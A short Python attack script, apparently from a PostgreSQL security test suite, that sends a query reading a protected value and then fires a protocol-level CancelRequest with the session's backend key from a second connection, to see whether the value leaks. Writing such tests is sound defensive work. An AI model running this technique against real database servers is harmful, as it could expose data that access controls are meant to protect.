"""Cancels the statement once the value has been read."""

import struct
import time

from attacks.frames import hear, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.raw() as client:
        hello = client.start(server.user, server.dbname)
        key = next(data for kind, data in hello if kind == b"K")[5:]
        client.send(query(b"SELECT account_unseen(1); SELECT pg_sleep(5)"))
        time.sleep(0.5)
        with server.raw() as other:
            other.send(struct.pack("!II", 8 + len(key), (1234 << 16) | 5678) + key)
        return hear(client)
